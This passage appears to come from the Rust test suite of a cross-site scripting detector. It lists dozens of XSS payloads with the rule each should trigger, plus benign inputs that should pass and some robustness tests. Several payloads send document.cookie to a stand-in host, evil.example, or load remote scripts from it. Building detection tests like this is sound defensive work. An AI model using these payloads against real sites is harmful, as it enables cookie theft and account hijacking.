            ("${alert(1)}", "xss.js_template"),
            ("{{constructor.constructor('alert(1)')()}}", "xss.js_constructor"),
        ]);
    }

    #[test]
    fn script_tags() {
        expect_rule(
            "xss.script_tag",
            &[
                "<script>alert(1)</script>",
                "<ScRiPt>alert(document.domain)</sCrIpT>",
                "<script src=//evil.example/x.js></script>",
                "<script/src=data:,alert(1)>",
                "<script\nsrc=\"https://evil.example/a.js\">",
                "\"><script>",
                "</textarea><script>prompt(1)</script>",
                "</title><script>confirm`1`</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script>eval(atob('YWxlcnQoMSk='))</script>",
                "<svg><script>alert&#40;1&#41;</script></svg>",
                "<script>{onerror=alert}throw 1</script>",
                "<script>location='https://evil.example/?c='+document.cookie</script>",
                "<svg><script>alert(1)</script></svg>",
                "x</script><script>alert(1)//",
            ],
        );
    }

    #[test]
    fn event_handlers_in_every_spelling() {
        expect_rule(
            "xss.event_handler",
            &[
                "<svg onload=alert(1)>",
                "<svg/onload=alert(1)>",
                "<img src=x onerror=alert(1)>",
                "<IMG SRC=x OnErRoR=alert(1)>",
                "<img\nsrc=x\nonerror=alert(1)>",
                "<img\tsrc=x\tonerror\t=\talert(1)>",
                "<img src=`x` onerror=`alert(1)`>",
                "<img src=\"x\"onerror=\"alert(1)\">",
                "<body onpageshow=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<x contenteditable onblur=alert(1)>xss</x>",
                "<xss onpointerenter=alert(1)>hover</xss>",
                "<marquee onstart=confirm(1)>",
                "<video><source onerror=\"alert(1)\">",
                "<img src=x onerror=alert(1)//",
                "<svg onload=alert(1)",
                "<a onmouseover='alert(1)'>x</a>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<p title=\"<img src=x onerror=alert(1)>\">",
                "<img/src=x/onerror=alert(1)>",
            ],
        );
    }

    #[test]
    fn script_urls_in_attributes_and_values() {
        expect_rule(
            "xss.js_url",
            &[
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"\u{1} javascript:alert(1)\">x</a>",
                "<a href=JaVaScRiPt:alert(1)>x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<form action=javascript:alert(1)><input type=submit>",
                "<button formaction=\"javascript:alert(1)\">go</button>",
                "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
                "<math href=\"javascript:alert(1)\">click</math>",
                "<table background=\"javascript:alert(1)\">",
                "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
                "javascript:alert(1)",
                "  JavaScript:alert(document.cookie)",
                "java\tscript:alert(1)",
                "javascript://%0aalert(1)",
                "javascript://\nalert(1)",
                "vbscript:msgbox(\"x\")",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "[click me](javascript:alert(1))",
                "https://shop.example/login?next=javascript:alert(1)",
            ],
        );
    }

    #[test]
    fn dangerous_tags_css_and_svg_animation() {
        expect_rules(&[
            ("<iframe srcdoc=\"&lt;b&gt;hi\"></iframe>", "xss.dangerous_tag"),
            ("<iframe srcdoc=\"<img src=x onerror=alert(1)>\"></iframe>", "xss.dangerous_tag"),
            ("\"><iframe src=https://evil.example/phish>", "xss.dangerous_tag"),
            ("<object data=\"https://evil.example/x.swf\">", "xss.dangerous_tag"),
            ("<embed src=//evil.example/x.swf>", "xss.dangerous_tag"),
            ("<base href=\"https://evil.example/\">", "xss.dangerous_tag"),
            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "xss.dangerous_tag"),
            ("<div style=\"width:expression(alert(1))\">", "xss.style_injection"),
            ("<div style=\"width:exp/**/ression(alert(1))\">", "xss.style_injection"),
            ("<div style=\"background:url(javascript:alert(1))\">", "xss.style_injection"),
            ("<div style=\"background:url(j\\61vascript:alert(1))\">", "xss.style_injection"),
            ("<style>@import 'http://evil.example/x.css';</style>", "xss.style_injection"),
            ("<style>@import url(//evil.example/x.css);</style>", "xss.style_injection"),
            ("<style>body{behavior:url(x.htc)}</style>", "xss.style_injection"),
            ("<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "xss.js_url"),
            (
                "<svg><a><set attributeName=\"href\" to=\"https://x\"/><text>x</text></a></svg>",
                "xss.svg_animate",
            ),
        ]);
    }

    #[test]
    fn attribute_and_script_context_breakouts() {
        expect_rules(&[
            ("\" onmouseover=\"alert(1)", "xss.attribute_breakout"),
            ("' autofocus onfocus='alert(1)", "xss.attribute_breakout"),
            ("x\" onfocus=alert`1` autofocus x=\"", "xss.attribute_breakout"),
            ("\"/onclick=confirm(1)//", "xss.attribute_breakout"),
            ("x onmouseover=alert(1)", "xss.attribute_breakout"),
            ("\" style=\"background:url(javascript:alert(1))", "xss.attribute_breakout"),
            ("\";alert(1)//", "xss.js_breakout"),
            ("'-alert(1)-'", "xss.js_breakout"),
            ("\\\";confirm(1);//", "xss.js_breakout"),
            ("'};alert(1);//", "xss.js_breakout"),
            ("'));alert(document.domain);//", "xss.js_breakout"),
            ("\"+alert(1)+\"", "xss.js_breakout"),
            ("'*prompt(1)*'", "xss.js_breakout"),
            ("`;alert(1)//", "xss.js_breakout"),
            ("';window['al'+'ert'](1)//", "xss.js_breakout"),
            ("'||fetch('//evil.example/?'+document.cookie)||'", "xss.js_breakout"),
            ("-alert(1)-", "xss.js_breakout"),
            ("1;alert(1)", "xss.js_breakout"),
            ("${alert(1)}", "xss.js_template"),
            ("`${document.cookie}`", "xss.js_template"),
            ("{{constructor.constructor('alert(1)')()}}", "xss.js_constructor"),
            ("[].constructor['constructor']('alert(1)')()", "xss.js_constructor"),
            ("{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}", "xss.js_constructor"),
            ("{{$eval.constructor('alert(1)')()}}", "xss.js_constructor"),
            ("'/**/;/**/alert(1)//", "xss.js_breakout"),
            ("\";new Image().src='//evil.example/?'+document.cookie;//", "xss.js_breakout"),
        ]);
    }

    #[test]
    fn classic_vectors_and_evasions() {
        expect_rules(&[
            ("<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", "xss.js_url"),
            ("<IMG SRC=\" \u{e}  javascript:alert('XSS');\">", "xss.js_url"),
            ("<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">", "xss.js_url"),
            ("<BASE HREF=\"javascript:alert('XSS');//\">", "xss.js_url"),
            ("<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">", "xss.style_injection"),
            ("<XSS STYLE=\"behavior: url(xss.htc);\">", "xss.style_injection"),
            (
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS",
                "xss.style_injection",
            ),
            (
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/s.html\"></OBJECT>",
                "xss.dangerous_tag",
            ),
            (
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD4=\">",
                "xss.dangerous_tag",
            ),
            ("<img \"\"\"><script>alert(\"XSS\")</script>\">", "xss.script_tag"),
            ("<<SCRIPT>alert(\"XSS\");//<</SCRIPT>", "xss.script_tag"),
            ("<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>", "xss.script_tag"),
            (
                "<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(1)</SCRIPT>\">",
                "xss.script_tag",
            ),
            ("<svg><style>{font-family:'<img/src=x onerror=alert(1)>'}</style>", "xss.event_handler"),
            ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "xss.event_handler"),
            ("<form id=f onforminput=alert(1)><input></form>", "xss.event_handler"),
            ("'\"><svg/onload=alert(1)>", "xss.event_handler"),
            ("<img src=x:alert(alt) onerror=eval(src) alt=0>", "xss.event_handler"),
            ("\"onmouseover=\"alert(1)", "xss.attribute_breakout"),
            ("\" accesskey=\"x\" onclick=\"alert(1)", "xss.attribute_breakout"),
            (
                "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
                "xss.event_handler",
            ),
            ("JaVaScRiPt:eval('ale'+'rt(1)')", "xss.js_url"),
            ("javascript:\\u0061lert(1)", "xss.js_url"),
            ("';alert(String.fromCharCode(88,83,83))//", "xss.js_breakout"),
        ]);
    }

    #[test]
    fn legitimate_values_pass() {
        expect_clean(&[
            "<p>Hello <b>world</b></p>",
            "<a href=\"https://example.com/docs?id=1\" target=\"_blank\">docs</a>",
            "<img src=\"https://cdn.example.com/a.png\" alt=\"A cat\" width=\"200\">",
            "<ul><li>One</li><li>Two</li></ul>",
            "<table><tr><th>Name</th><td>Ana</td></tr></table>",
            "<code>onclick</code> is an attribute",
            "Set the onerror handler in your component",
            "Use <script> tags sparingly.",
            "Put the <script> tag before </body> so the page renders first.",
            "Why does <iframe> not load?",
            "See [the docs](https://example.com/docs) and [intro](../intro.md)",
            "a<b && c>d",
            "Contact: Ana <ana@example.com>",
            "I <3 this product <3",
            "if (a < b) { alert('smaller'); }",
            "for (let i=0;i<len;i++) { total += i; }",
            "const s = 'hi'; alert(s);",
            "console.log(\"done\"); open(url)",
            "print('hello'); open('f.txt')",
            "document.getElementById(\"x\").onclick = () => alert(\"hi\");",
            "<button onClick={handleClick}>Save</button>",
            "<a href=\"javascript:void(0)\">menu</a>",
            "<a href=\"mailto:ana@example.com\">mail</a>",
            "<a href=\"tel:+15551234567\">call</a>",
            "<a href=\"/docs/intro\">intro</a> <a href=\"#top\">top</a>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
            "<img src=\"data:image/svg+xml;utf8,<svg/>\" alt=\"icon\">",
            "<p style=\"text-align:center;color:#333\">Centered</p>",
            "<div style=\"scroll-behavior: smooth\">x</div>",
            "<p class=\"video\"><iframe src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe></p>",
            "JavaScript: the good parts",
            "javascript: closures explained",
            "Learn JavaScript: (a gentle intro)",
            "O'Brien said \"hello\" - nice",
            "It's 5 o'clock; time to go",
            "select the best option from the list",
            "title:foo AND (bar OR baz) -qux",
            "price>10",
            "2*(3+4)",
            "x => x * 2",
            "Hello {{name}}",
            "${HOME}/bin",
            "`npm install` then run `npm start`",
            "https://hooks.example.com/callback?id=42&sig=abc",
            "C:\\Users\\ana\\report.pdf",
            "docs/guide/intro.md",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
            "550e8400-e29b-41d4-a716-446655440000",
            "2024-05-01T10:00:00Z",
            "+1 (555) 123-4567",
            "Re: meeting at 10:30",
            "note: confirm booking",
            "<blockquote>Quoted <em>text</em></blockquote>",
            "<h1 id=\"title\">Title</h1><hr/><br>",
            "<span data-id=\"12\" data-src=\"x.png\">x</span>",
            "Use `onload` and `onerror` on images carefully",
            "the constructor sets up the object",
            "Foo.prototype.constructor === Foo",
            "const x = 'a' /* note */ + b;",
            "new Person('Ana').constructor.name",
            "let url = `${base}/users/${id}`;",
            "<input type=\"text\" name=\"q\" value=\"search\">",
            "<video src=\"https://cdn.example.com/v.mp4\" controls></video>",
            "A <b>bold</b> and <i>italic</i> <u>under</u> <s>strike</s>",
            "Data: 42 items",
            "data: {\"a\": 1}",
            "<a href=\"https://example.com/?q=javascript\">search</a>",
            "regex: [a-z]+(?=x)",
            "The <object> and <embed> elements are obsolete",
            "email me: ana@example.com",
            "<p>Use the <code><script></code> element</p>",
            "Price is <$10 and >$5",
            "List<String> items = new ArrayList<>();",
            "fn keep<T: Clone>(x: T) -> T { x }",
            "From: \"Ana\" <ana@example.com>",
            "The onload event fires when the page is ready",
            "javascript:void(0)",
            "{\"html\": \"<p>Hi</p>\", \"onclick\": \"x\"}",
            "<svg viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5 10-5-10-5z\"/></svg>",
            "<a href=\"https://x.example\" rel=\"noopener noreferrer\">x</a>",
            "<iframe src=\"https://www.google.com/maps/embed?pb=1\" style=\"border:0;\" loading=\"lazy\"></iframe>",
            "<button @click=\"save\">Save</button> <div v-on:click=\"x\" (click)=\"save()\">",
            "x = a<b ? a : b",
            "Meeting at 3pm; call(me) later",
            "'hello' + name",
            "\"; DROP TABLE users; --",
            "?redirect=/dashboard&tab=2",
            "<style>@import url('https://fonts.googleapis.com/css2?family=Roboto');</style>",
            "ok = confirm('Delete this item?')",
            "name = prompt(\"Your name?\")",
            "Don't use `onclick=\"go()\"` attributes",
            "The <script> 'defer' attribute delays execution",
            "Use <script> this way, not that way",
        ]);
    }

    #[test]
    fn adversarial_shapes_stay_linear() {
        // Each would take seconds if a step rescanned the rest of the value per `<`, quote
        // or colon.
        for value in [
            "<a".repeat(40_000),
            "<a ".repeat(40_000),
            "<a title=\"".repeat(20_000),
            "<script>".repeat(20_000),
            "<style>".repeat(20_000),
            "=javascript:x".repeat(10_000),
            "\t".repeat(100_000) + "javascript:alert(1)",
            "'\"`".repeat(30_000),
            format!("<p style=\"{}\">", "/*".repeat(40_000)),
        ] {
            let _ = detect(&value);
        }
        assert_eq!(rule(&("\t".repeat(100) + "javascript:alert(1)")), Some("xss.js_url"));
    }

    proptest! {
        #[test]
        fn never_panics_and_spans_stay_inside(value in ".{0,300}") {
            if let Some(found) = detect(&value) {
                prop_assert!(found.span.start <= found.span.end && found.span.end <= value.len());
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }

        #[test]
        fn markup_like_inputs_never_panic(value in r#"([<>"'`=/ \t\n:;(){}]|on[a-z]{0,6}|script|svg|javascript|style|[a-z]{1,4}|\\[0-9a-f]{1,3}|é|\x00){0,60}"#) {
            if let Some(found) = detect(&value) {
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }
    }
}
